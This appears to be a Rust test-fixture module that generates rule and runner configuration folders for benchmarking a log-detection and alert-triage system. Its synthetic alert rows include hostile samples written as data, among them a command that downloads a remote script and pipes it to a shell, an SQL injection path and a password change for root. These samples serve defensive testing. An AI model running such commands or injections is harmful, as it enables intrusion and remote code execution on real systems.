//! Folders with a runner and rules, as a site has them.

use std::fs;
use std::path::Path;

use anyhow::Result;

/// The one of [`thousand_rules`] that fires.
pub const FIRST_RULE: &str = "r0000";

/// Queries of [`thousand_rules`], over 10,000 events in memory; `{user}` is another account for each rule.
pub const NOTHING: &str = "SELECT 1 AS one WHERE false";
pub const FILTER: &str = "SELECT * FROM events
  WHERE time_s >= {{ startime }} AND time_s < {{ endtime }} AND user_name = '{user}' AND source_ip = '10.9.9.9'";
pub const COUNT: &str = "SELECT user_name, source_ip, count(*) AS failures FROM events
  WHERE time_s >= {{ startime }} AND time_s < {{ endtime }} AND user_name = '{user}'
  GROUP BY ALL HAVING failures > {{ data.threshold }}";

/// A thousand rules every 10 s. Triage is off.
pub fn thousand_rules(dir: &Path, receiver: &str, query: &str) -> Result<()> {
    runner(dir, receiver, "10s", EVENTS, "triage: false\n")?;
    for number in 0..1000 {
        let id = format!("r{number:04}");
        let fires = id == FIRST_RULE;
        let query = if fires { "SELECT 'root' AS user_name, 12 AS failures" } else { query };
        rule(dir, &id, &query.replace("{user}", &format!("user{}", number % 40)))?;
    }
    Ok(())
}

/// [`RULES`] rules shared out evenly over [`SOURCES`], every [`SOURCES_TICK_S`] seconds; none fires. The servers are at
/// `urls`, the second one's certificate signed by the tests' authority.
pub fn rules_over_sources(dir: &Path, receiver: &str, urls: [&str; 2]) -> Result<()> {
    let authority = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/tls/authority.pem");
    fs::create_dir_all(dir.join("rules"))?;
    let mut text = String::from("datasources:\n");
    for (number, (kind, settings, _)) in SOURCES.iter().enumerate() {
        let url = match number % 2 {
            0 => format!("url: '{}'", urls[0]),
            _ => format!("url: '{}', ca: {authority}", urls[1]),
        };
        let settings = settings.replace("{url}", &url);
        text.push_str(&format!("  s{number}: {{type: {kind}, {settings}}}\n"));
    }
    text.push_str(&format!(
        "webhooks:\n  receiver: {{type: generic, url: 'http://{receiver}/'}}\n\
         detectors:\n  all:\n    name: All\n    for: {SOURCES_TICK_S}s\n    rules: ['rules/*.yml']\n    \
         webhooks: [receiver]\ntriage: false\n"
    ));
    fs::write(dir.join("runner.yml"), text)?;
    for number in 0..RULES {
        let source = number % SOURCES.len();
        let id = format!("r{number:04}");
        rule(dir, &id, SOURCES[source].2)?;
        let path = dir.join("rules").join(format!("{id}.yml"));
        let text = fs::read_to_string(&path)?;
        fs::write(path, format!("{text}datasource: s{source}\n"))?;
    }
    Ok(())
}

pub const RULES: usize = 1_000;
pub const SOURCES_TICK_S: u64 = 40;
/// Kind, settings, query.
pub const SOURCES: [(&str, &str, &str); 10] = [
    ("duckdb", "threads: 1", NOTHING),
    ("duckdb", "threads: 1", NOTHING),
    ("loki", "{url}", "{job=\"auth\"} |= \"Failed password\""),
    ("loki", "{url}", "{job=\"auth\"} |= \"Accepted password\""),
    ("victorialogs", "{url}", "_msg:\"Failed password\""),
    ("victorialogs", "{url}", "_msg:\"Accepted password\""),
    ("opensearch-ppl", "{url}", "source=auth-* | where outcome = 'failed'"),
    ("opensearch", "{url}, index: auth-*", SEARCH),
    ("elasticsearch", "{url}, index: auth-*", SEARCH),
    ("opensearch-ppl", "{url}", "source=auth-* | where outcome = 'accepted'"),
];
const SEARCH: &str = r#"{"query": {"bool": {"filter": [{"term": {"outcome": "failed"}}, {"range": {"@timestamp": {"gte": {{ startime }}, "lt": {{ endtime }}, "format": "epoch_second"}}}]}}}"#;

/// Rules that all fire every second, with one row.
pub fn firing_rules(dir: &Path, receiver: &str, rules: usize) -> Result<()> {
    // What is due once must not come again while the first is measured.
    let interval = if rules > 100 { "10m" } else { "1s" };
    runner(dir, receiver, interval, "SELECT 1", "triage: false\n")?;
    for number in 0..rules {
        let query = format!("SELECT 'user{number}' AS user_name, '203.0.113.9' AS source_ip, 12 AS failures");
        rule(dir, &format!("r{number:04}"), &query)?;
    }
    Ok(())
}

/// `alerts` rules that fire once, at the Unix second `at`, with rows of ten kinds; one fires at the start, so that the
/// model is warm. Triage reads `batch` at a time. Beside it [`TICK_RULE`] fires every second and is not triaged.
pub fn triaged_rules(dir: &Path, receiver: &str, alerts: usize, batch: usize, at: i64) -> Result<()> {
    let triage = format!(
        "  ticks:\n    name: Ticks\n    for: 1s\n    rules: [ticks/*.yml]\n    webhooks: [receiver]\n\
         triage:\n  batch: {batch}\n  deadline: 1h\n  from_level: 2\n  \
         false_positive: Scanner 10.20.0.5 runs daily. Ignore alerts where source_ip is 10.20.0.5.\n"
    );
    runner(dir, receiver, "2s", "SELECT 1", &triage)?;
    for number in 0..alerts {
        let (columns, rows) = ROWS[number % ROWS.len()];
        let query = format!(
            "SELECT {columns} FROM range({rows}) AS numbers(i)
  WHERE {at} >= {{{{ startime }}}} AND {at} < {{{{ endtime }}}}"
        );
        rule(dir, &format!("r{number:04}"), &query)?;
    }
    let started = at - WARM_UP_S;
    let warm = format!(
        "SELECT 'root' AS user WHERE {started} >= {{{{ startime }}}} AND {started} < {{{{ endtime }}}}"
    );
    rule(dir, "warm", &warm)?;
    fs::create_dir_all(dir.join("ticks"))?;
    let tick = format!("id: {TICK_RULE}\nname: Tick\nlevel: 1\nrule: SELECT {{{{ startime }}}} AS at\n");
    Ok(fs::write(dir.join("ticks/tick.yml"), tick)?)
}

/// The one of [`triaged_rules`] that fires every second.
pub const TICK_RULE: &str = "tick";
/// From the start of [`triaged_rules`] to its burst: the model is loaded and has read one alert.
pub const WARM_UP_S: i64 = 10;

fn runner(dir: &Path, receiver: &str, interval: &str, init: &str, rest: &str) -> Result<()> {
    fs::create_dir_all(dir.join("rules"))?;
    let text = format!(
        "datasource:\n  type: duckdb\n  init: |\n    {init}\n\
         webhooks:\n  receiver: {{type: generic, url: 'http://{receiver}/'}}\n\
         detectors:\n  logins:\n    name: Logins\n    for: {interval}\n    rules: ['rules/*.yml']\n    \
         webhooks: [receiver]\n{rest}"
    );
    Ok(fs::write(dir.join("runner.yml"), text)?)
}

fn rule(dir: &Path, id: &str, query: &str) -> Result<()> {
    let text = format!(
        "id: {id}\nname: Many failed logins ({id})\nlevel: 75\ngroup: logins\ntags: [attack.t1110]\n\
         description: An account failed to log in many times within {{{{ detector.for_time }}}}\n\
         data: {{threshold: 10}}\nrule: |\n  {query}\n"
    );
    Ok(fs::write(dir.join("rules").join(format!("{id}.yml")), text)?)
}

/// 10,000 events over an hour and a bit, from a minute before the start.
const EVENTS: &str = "CREATE TABLE events AS SELECT epoch(now())::BIGINT - 60 + i % 3700 AS time_s, 'user' || (i % 40) AS user_name, \
     '10.0.' || (i % 7) || '.' || (i % 200) AS source_ip FROM range(10000) AS numbers(i)";

/// Columns over a counter `i`, and how many rows.
const ROWS: [(&str, usize); 10] = [
    (
        "'203.0.113.9' AS source_ip, 'user' || (i % 9) AS user, 'web01' AS host, 'Failed password for user' || (i % 9) || ' from 203.0.113.9 port ' || (4000 + i) || ' ssh2' AS message",
        60,
    ),
    (
        "'198.51.100.7' AS source_ip, 'root' AS user, 'db02' AS host, 'Accepted password for root from 198.51.100.7' AS message",
        1,
    ),
    ("'10.20.0.5' AS source_ip, '/admin/' || i AS path, 404 AS status, 'scanner/2.1' AS user_agent", 300),
    (
        "'192.0.2.44' AS source_ip, '/item?id=1 UNION SELECT password FROM users' AS path, 200 AS status, 'sqlmap/1.7' AS user_agent",
        4,
    ),
    ("'alice' AS user, 'ws14' AS host, '/usr/bin/passwd root' AS command, '/home/alice' AS directory", 1),
    ("'bob' AS user, 'build03' AS host, 'curl http://203.0.113.80/x.sh | sh' AS command, 4711 + i AS pid", 2),
    (
        "'10.1.4.' || i AS source_ip, '203.0.113.200' AS destination_ip, 4444 AS destination_port, 15000 * i AS bytes",
        25,
    ),
    (
        "'svc-backup' AS user, 'dc01' AS host, 4769 AS event_id, 'http/app' || i AS service, '0x17' AS encryption",
        40,
    ),
    (
        "'mail01' AS host, 'invoice' || i || '.xlsm' AS file, 'd41d8cd98f00b204e9800998ecf8427e' AS md5, 'carol' AS user",
        3,
    ),
    ("'fw01' AS host, '198.51.100.' || i AS source_ip, 3389 AS destination_port, 'deny' AS action", 150),
];
